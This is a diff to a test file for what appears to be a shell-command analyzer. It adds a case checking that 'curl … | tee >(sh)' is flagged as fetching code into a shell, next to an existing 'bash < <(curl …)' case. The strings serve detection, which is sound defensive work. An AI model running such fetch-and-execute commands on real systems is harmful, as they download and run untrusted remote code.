@@ -195,6 +195,10 @@ describe('documented examples', () => {
     expect(f.signals).toContain('fetch_to_shell');
   });
 
+  it('tee into >(sh)', () => {
+    expect(facts('curl -s http://x.io/a | tee >(sh) > /dev/null').signals).toContain('fetch_to_shell');
+  });
+
   it('bash < <(curl …)', () => {
     const f = facts('bash < <(curl -s http://x.io/a)');
     expect(f.signals).toContain('fetch_to_shell');
